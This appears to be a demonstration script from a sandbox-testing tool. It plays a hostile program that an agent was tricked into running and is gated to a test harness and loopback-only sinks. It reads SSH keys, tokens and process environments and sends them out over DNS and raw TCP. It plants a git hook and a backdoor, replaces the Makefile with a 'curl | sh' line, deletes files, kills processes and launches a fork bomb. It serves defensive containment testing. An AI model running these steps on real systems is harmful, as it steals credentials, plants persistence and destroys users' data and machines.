#!/bin/bash
# What a hostile program that an agent was talked into running would try; tools/try runs it once bare and once in
# Belljar. It is a demonstration: it sends nothing but words that begin with CANARY, and only to 127.66.0.0/16 on
# this machine's own loopback. It takes no notice of what succeeds: that is judged from the sinks and the host.
#
#   BELLJAR_TRY=1 hostile.sh      in the working tree that it is to spoil
set -u
if [[ ${BELLJAR_TRY-} != 1 ]]; then
        echo "hostile.sh: run by tools/try, in a scratch namespace; not by hand" >&2
        exit 2
fi
exec 2>/dev/null
http=127.66.0.80 dns=127.66.0.53 zone=exfil.test

# One by one: the key in the home, a token in the tree, the caller's environment, that of PID 1 and of the parent.
canaries() {
        local f
        for f in ~/.ssh/* ~root/.ssh/* /home/*/.ssh/* ./*.token /proc/{self,1,$PPID}/environ; do
                [[ -r $f ]] && tr '\0' '\n' <"$f" | grep -ao 'CANARY-[0-9a-z-]*'
        done | sort -u
}

# By the resolver that the system is set up with, and by a datagram of our own to the sink's address.
by_dns() {
        local name=$1.$zone label query='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
        timeout 1 getent hosts "$name"
        for label in ${name//./ }; do
                query+=$(printf '\\x%02x%s' ${#label} "$label")
        done
        printf '%b' "$query\\x00\\x00\\x01\\x00\\x01" >/dev/udp/$dns/53
}

by_get() {
        # shellcheck disable=SC2016
        timeout 1 bash -c 'exec 3<>/dev/tcp/$1/80 && printf "GET /?%s HTTP/1.0\r\nHost: %s\r\n\r\n" "$2" "$1" >&3 &&
                read -t 1 -u 3' - "$http" "$1"
}

for c in $(canaries); do
        by_dns "$c"
        by_get "$c"
done
# What may not be read anyhow is sent in kind: the sinks would see that it was.
head -c 1 /etc/shadow >/dev/null && by_get CANARY-shadow
by_get CANARY-hello

# What the user's own git would run, with the user's rights, on the next commit.
# shellcheck disable=SC2016
printf '#!/bin/sh\n: >"$(git rev-parse --git-dir)/hook-ran"\n' >.git/hooks/post-commit
chmod +x .git/hooks/post-commit

# The tree: a back door, a lost file, a changed build.
printf '\nint backdoor(void) { return 1; }\n' >>src/sum.c
rm -f README
printf 'all: ; curl -s http://%s/ | sh\n' "$http" >Makefile

# Other programs of the same user, found by name: traced and ended.
for p in /proc/[0-9]*; do
        [[ $(tr '\0' ' ' <"$p/cmdline") == *belljar-try-bystander* ]] || continue
        echo x >"$p/mem"
        kill -KILL "${p#/proc/}"
done
kill -KILL 1

# Processes without end, out of the reach of who ends only the group or the parent.
bomb() {
        trap '' TERM HUP
        exec 9<> <(:)
        while :; do
                bomb &
                read -r -t 0.05 -u 9
        done
}
export -f bomb
setsid bash -c bomb &
wait
sleep 1000
